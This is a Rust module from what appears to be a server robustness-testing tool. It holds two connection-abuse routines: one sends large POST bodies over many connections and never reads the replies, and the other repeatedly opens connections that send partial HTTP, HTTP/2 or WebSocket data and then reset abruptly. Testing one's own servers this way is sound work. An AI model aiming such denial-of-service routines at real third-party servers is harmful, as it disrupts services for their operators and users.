//! Abuse by connections: very many of them, and such that end at once.

use std::io::Write as _;

use anyhow::Result;

use super::http1::fields;
use crate::attack::{Attack, RawConnection, Socket};
use crate::http1::{PLAIN, post};
use crate::http2_frames::preface;
use crate::websocket_frames::HANDSHAKE;

/// Connections of a round.
const RESETS: usize = 100;

/// The largest block, asked for by everybody and taken by nobody.
pub(super) fn blocks_unread(attack: &Attack<'_>) -> Result<()> {
    let asked = [0, 1].map(|path| post(fields(path), attack.largest.block.as_bytes()));
    let opened = |index: usize| {
        let mut connection = attack.connect_narrow()?;
        if let Some(asked) = asked.iter().cycle().nth(index % asked.len()) {
            connection.write_all(asked)?;
        }
        connection.without_waiting()
    };
    // What they were told, or the beginning of it, stays where it is.
    attack.keep(opened, |_| Ok(()))
}

/// Connections that end with a reset, with something under way or nothing.
pub(super) fn resets(attack: &Attack<'_>) -> Result<()> {
    let begun: [Vec<u8>; 5] = [
        Vec::new(),
        post(PLAIN, attack.largest.block.as_bytes()),
        post(PLAIN, attack.largest.batch.as_bytes()),
        preface(&[]),
        HANDSHAKE.into(),
    ];
    attack.repeat(|_| {
        for bytes in begun.iter().cycle().take(RESETS) {
            let mut connection = RawConnection::open(attack, Socket::Abrupt)?;
            connection.write_all(bytes)?;
        }
        Ok(())
    })
}
